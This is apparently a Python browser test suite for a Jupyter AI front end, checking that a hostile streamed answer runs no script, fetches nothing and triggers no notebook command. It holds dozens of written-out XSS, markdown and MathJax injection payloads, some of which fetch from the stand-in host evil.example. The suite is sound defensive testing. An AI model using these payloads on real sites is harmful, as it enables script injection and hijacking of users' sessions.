"""An answer made to attack its reader, in a live cell of a real front end: nothing happens."""

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from socket import socket
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from swiftask_jupyter import Sandbox
from swiftask_jupyter.sandbox.faults import Fault
from tests.support.hostility import LOAD, Guard, echoing, question
from tests.support.jupyter import App, Notebook

pytestmark = pytest.mark.browser

APPS = pytest.mark.parametrize("app", ["lab", "notebook"])
PER_CELL = 12
ALPHA = "\N{GREEK SMALL LETTER ALPHA}"

# In every payload `alert(1)` becomes a mark that tells which payload made it, and evil.example
# becomes a server of this test, which nobody should ever ask for anything.
FILED = (Path(__file__).parents[1] / "support" / "hostile_payloads.txt").read_text(encoding="utf-8")
# These do not lead the page away, so that the controls can show what they would do.
TAME = (
    "<script>alert(1); document.title = 'pwned'; fetch('https://evil.example/fetched')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/image>",
    "<button data-commandlinker-command=notebook:select-all>free</button>",
    '<a href="#" data-commandlinker-command="notebook:select-all">free</a>',
)
MORE = (
    "![x](https://evil.example/a.png) ![x](<https://evil.example/b.png> 't')",
    "![x][evil] ![evil]\n\n[evil]: https://evil.example/c.png",
    "[![x](https://evil.example/d.png)](https://a.example) ![x](//evil.example/e.png)",
    "![x](/logout?hostile) ![x](logout?hostile) ![x](/api/kernels?hostile)",
    "<img src=/logout?hostile> <a href=/logout?hostile>x</a> [x](/lab?hostile)",
    "<picture><source srcset=https://evil.example/f.png><img srcset='//evil.example/g.png 2x'>",
    "<table background=https://evil.example/h.png><td><input type=image src=//evil.example/i.png>",
    "<video poster=https://evil.example/j.png></video><audio src=//evil.example/k.mp3 autoplay>",
    "<iframe src=https://evil.example/frame></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe><frameset onload=alert(1)>",
    "<svg><image href=https://evil.example/l.svg /><animate onbegin=alert(1) attributeName=x />",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><maction actiontype=toggle xlink:href='javascript:alert(1)' onclick=alert(1)>x</math>",
    "<style>@import '//evil.example/m.css'; *{background:url(//evil.example/n.png)}</style>",
    "<link rel=prefetch href=//evil.example/o><meta http-equiv=refresh content='0;/lab?hostile'>",
    "<base target=_self href=https://evil.example/><a href=p>x</a>",
    "<script type=module>import('https://evil.example/q.js').catch(() => alert(1))</script>",
    "<script type=math/tex>\\href{javascript:alert(1)}{x}</script><script>MathJax={}</script>",
    "<form action=javascript:alert(1)><button>a</button><input type=submit value=b></form>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example/r.swf>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<noscript><img src=//evil.example/s.png></noscript><xmp><img src=x onerror=alert(1)></xmp>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>x</dialog>",
    "<p onpointerenter=alert(1) onclick=alert(1) style=animation:x onanimationstart=alert(1)>x</p>",
    "<a href=javascript:alert(1) target=_self>x</a> <a href=//a.example ping=//evil.example>x",
    "[x](javascript:alert(1)//https://a.example) [x](JAVASCRIPT&#x3a;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>) [x](vbscript:alert(1)) <javascript:alert(1)>",
    "[x](https://a.example){data-commandlinker-command=notebook:select-all onclick=alert(1)}",
    '```mermaid\ngraph TD; A["<img src=//evil.example>"]; click A "javascript:alert(1)"\n```',
    "```{=html}\n<script>alert(1)</script>\n```\n\n```svg\n<svg onload=alert(1)></svg>\n```",
    "> | a | b |\n> |---|---|\n> | <img src=x onerror=alert(1)> | ![x](//evil.example/u.png) |",
)
# None of these may reach MathJax, in whose language they are commands.
FORMULAS = (
    r"$\href{javascript:alert(1)}{click}$",
    r"\(\style{background:url(https://evil.example/v.png)}{x}\)",
    r"$\class{jp-Dialog}{x}$",
    r"\[\require{html}\cssId{jupyterapp}{x}\]",
    r"$\unicode[url(https://evil.example/w.png)]{x41}$",
    r"$\bbox[background:url(https://evil.example/x.png)]{x}$",
    r"$\def\alpha{\href{javascript:alert(1)}{x}}$",
    r"\begin{equation}\href{javascript:alert(1)}{x}\end{equation}",
    r"$\data{commandlinker-command=notebook:select-all}{x}$",
)


class Listener(ThreadingHTTPServer):
    """The server that nobody should ask: it counts connections, whatever is said on them."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Refusal)
        self.host = f"127.0.0.1:{self.server_port}"
        self.connections = 0
        self.paths: list[str] = []

    def get_request(self) -> tuple[socket, Any]:
        """Count it, and take it."""
        self.connections += 1
        return super().get_request()


class Refusal(BaseHTTPRequestHandler):
    """Answers nothing, and writes down what was asked for."""

    def do_GET(self) -> None:
        """Answer a request."""
        self.server.paths.append(self.path)
        self.send_error(404)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def listener() -> Iterator[Listener]:
    """A server on another port than Jupyter's."""
    with Listener() as listener:
        thread = threading.Thread(target=listener.serve_forever, args=(0.05,))
        thread.start()
        yield listener
        listener.shutdown()
        thread.join()


@pytest.fixture
def env(box: Sandbox) -> dict[str, str]:
    """A kernel whose agent says everything back in small pieces that take their time."""
    return echoing(box)


def filed() -> list[str]:
    """The payloads of the file, but for what can't be typed into a cell."""
    payloads = [text.strip("\n") for text in FILED.partition("\n")[2].split("%%%%\n")]
    for i, text in enumerate(payloads):
        if text.startswith("!esc "):
            read = text.removeprefix("!esc ").encode("ascii").decode("unicode_escape")
            payloads[i] = re.sub("[\ud800-\udfff]", "", read)
    return payloads


def armed(payload: str, mark: int, listener: Listener) -> str:
    """The payload with its mark, and with our listener for whoever is evil."""
    payload = payload.replace("alert(1)", f"top.pwn({mark})")
    payload = re.sub(r"https?://evil\.example", f"http://{listener.host}", payload)
    return payload.replace("//evil.example", f"//{listener.host}")


@APPS
def test_a_hostile_answer_does_nothing_whether_it_streams_stands_or_is_clicked(
    notebook: Notebook, app: App, env: dict[str, str], listener: Listener
):
    """No script runs, nothing is fetched, no command of the front end is carried out."""
    payloads = [*TAME, *MORE, *FORMULAS, *filed()]
    texts = [armed(payload, i, listener) for i, payload in enumerate(payloads)]
    batches = ["\n\n".join(texts[i : i + PER_CELL]) for i in range(0, len(texts), PER_CELL)]
    notebook.open("hostile.ipynb", [LOAD, *map(question, batches)], app=app, env=env)
    guard = Guard(notebook)

    notebook.run_all()
    notebook.wait_idle()
    for i in range(1, len(batches) + 1):
        notebook.wait_text(i, " · turn ")

    assert len(guard.told("Texts")) > 3 * len(batches)  # they were seen while they grew
    assert notebook.foreign_requests() == []
    assert listener.connections == 0
    assert guard.what_happened() == {}

    assert guard.click_everything() > 40

    assert guard.opened > 30
    assert listener.paths == []
    assert guard.what_happened() == {}


@APPS
def test_a_formula_that_is_not_ours_is_never_typeset(
    notebook: Notebook, app: App, env: dict[str, str], listener: Listener, box: Sandbox
):
    r"""A long paragraph is shown in two parts while it grows; MathJax passes by both.

    If it did not, one `\def` would change what the formulas in the user's own cells say.
    """
    box.clear_faults()
    box.fail(Fault(pause=0.01))
    text = " and words upon words, ".join(armed(formula, 0, listener) for formula in FORMULAS * 5)
    mine = "from IPython.display import Latex; Latex(r'$x + \\alpha$')"
    notebook.open("formulas.ipynb", [LOAD, question(text), mine], app=app, env=env)
    alpha = notebook.output(2).locator("mjx-container math mi").nth(1)
    notebook.run_cell(0)
    notebook.run_cell(2)
    expect(alpha).to_have_text(ALPHA)  # MathJax is there now
    guard = Guard(notebook, cell=1)

    notebook.run_cell(1)
    notebook.wait_idle()
    notebook.wait_text(1, " · turn ")

    assert len(guard.told("Texts")) > 10
    assert "mjx-container" not in guard.told("Kinds")
    assert listener.connections == 0
    assert guard.what_happened() == {}
    notebook.run_cell(2)
    notebook.wait_idle()
    expect(alpha).to_have_text(ALPHA)


@APPS
@pytest.mark.parametrize("shown_as", ["HTML", "Markdown"])
def test_the_same_payloads_do_harm_where_they_are_shown_as_html_or_markdown(
    notebook: Notebook, app: App, shown_as: str, listener: Listener
):
    """So the tests above could fail."""
    texts = [armed(payload, i, listener) for i, payload in enumerate(TAME)]
    show = f"from IPython.display import {shown_as}, display\n"
    show += f"for text in {texts!r}:\n    display({shown_as}(text))"
    notebook.open("control.ipynb", [show], app=app)
    guard = Guard(notebook)

    notebook.run_all()
    notebook.wait_idle()
    expect(notebook.output(0).locator("button")).to_have_count(1)
    notebook.page.wait_for_function("() => window.testMarks.length > 1")

    assert guard.told("Marks") == [0, 1]
    assert {"script", "img", "@onerror", "button"} <= set(guard.told("Kinds"))
    assert {urlsplit(url).netloc for url in notebook.foreign_requests()} == {listener.host}
    guard.click_everything()
    assert {"/fetched", "/image"} <= set(listener.paths)
    assert "notebook:select-all" in guard.told("Commands")
